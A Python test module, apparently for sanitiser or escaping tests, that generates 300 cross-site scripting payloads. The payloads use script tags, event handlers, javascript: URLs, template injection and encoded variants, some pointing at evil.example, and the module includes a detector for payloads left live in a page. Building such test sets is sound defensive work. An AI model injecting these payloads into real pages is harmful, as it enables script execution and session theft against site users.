"""Three hundred ways of asking a page to run a script; each calls `ran` with its own number and carries a mark."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser

_CORES = (
    "<script {m}>ran({n})</script>",
    "<ScRiPt {m}>ran({n})</sCrIpT>",
    "<script {m} src=data:,ran({n})></script>",
    "<img {m} src=q onerror=ran({n})>",
    "<img/{m}/src=q/onerror=ran({n})>",
    "<img {m} src=`q` onerror=ran({n})//",
    "<svg {m} onload=ran({n})>",
    "<svg/{m}/onload=ran({n})//",
    "<svg {m}><script>ran({n})</script></svg>",
    "<svg {m}><animate onbegin=ran({n}) attributeName=x>",
    "<svg {m}><a href=javascript:ran({n})><text y=9>x",
    "<math {m}><a href=javascript:ran({n})>x</a>",
    "<body {m} onload=ran({n})>",
    "<iframe {m} srcdoc='<script>parent.ran({n})</script>'>",
    "<iframe {m} src=javascript:parent.ran({n})>",
    "<object {m} data=javascript:ran({n})>",
    "<embed {m} src=javascript:ran({n})>",
    "<details {m} open ontoggle=ran({n})>",
    "<input {m} autofocus onfocus=ran({n})>",
    "<textarea {m} autofocus onfocus=ran({n})>",
    "<select {m} autofocus onfocus=ran({n})>",
    "<video {m}><source onerror=ran({n})>",
    "<audio {m} src=q onerror=ran({n})>",
    "<marquee {m} onstart=ran({n})>",
    "<a {m} href=javascript:ran({n})>x</a>",
    "<a {m} href=' javascript:ran({n})'>x</a>",
    "<form {m} action=javascript:ran({n})><button>x",
    "<button {m} formaction=javascript:ran({n})>x",
    "<meta {m} http-equiv=refresh content=0;javascript:ran({n})>",
    "<base {m} href=//evil.example/>",
    "<link {m} rel=stylesheet href=//evil.example/>",
    "<style {m}>*{{background:url(//evil.example)}}</style>",
    "<template {m}><script>ran({n})</script></template>",
    "<p {m} style=animation-name:x onanimationstart=ran({n})>",
    '" {m} onmouseover=ran({n}) x="',
    "' {m} autofocus onfocus=ran({n}) x='",
    "{m} onfocus=ran({n}) tabindex=0 autofocus",
    '";ran({n});//{m}',
    "';ran({n});//{m}",
    "`;ran({n});//{m}",
    "${{ran({n})}}{m}",
    "{{{{constructor.constructor('ran({n})')()}}}}{m}",
    "{{% debug %}}{{{{ran({n})}}}}{m}",
    "\\u003cimg {m} src=q onerror=ran({n})\\u003e",
    "\\x3cimg {m} src=q onerror=ran({n})\\x3e",
    "&lt;img {m} src=q onerror=ran({n})&gt;",
    "&#60;img {m} src=q onerror=ran({n})&#62;",
    "%3Cimg {m} src=q onerror=ran({n})%3E",
    "\uff1cimg {m} src=q onerror=ran({n})\uff1e",
    "<\u200bimg {m} src=q onerror=ran({n})>",
)
# What closes whatever the words may stand in, so that they stand in the page itself.
_BEFORE = ("", '">', "'>", "</title></textarea>", "</script></style>", "-->]]>")
ALL = tuple(
    before + core.format(n=place * len(_BEFORE) + at, m=f"xq{place * len(_BEFORE) + at}q")
    for place, core in enumerate(_CORES)
    for at, before in enumerate(_BEFORE)
)

RAW = re.compile(r"<[^<>&\s\"']{1,30}[\s/]+xq\d+q|</title></textarea><|</script></style><|-->\]\]><")
ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"})


class _Looked(HTMLParser):
    """What of a page would run, or was let in as markup."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            runs = name in ADDRESSES and (value or "").strip().lower().startswith(("javascript:", "data:text/html"))
            if runs or name.startswith(("on", "xq")):
                self.found.append(f"<{tag} {name}={value!r}>")


def let_in(page: str) -> Iterator[str]:
    """Each place of an HTML page where a payload stands as markup."""
    yield from (found[0] for found in RAW.finditer(page))
    looked = _Looked()
    looked.feed(page)
    yield from looked.found


def some(count: int) -> tuple[str, ...]:
    """So many of them, spread over all kinds."""
    return tuple(ALL[(place * len(ALL)) // count] for place in range(count))
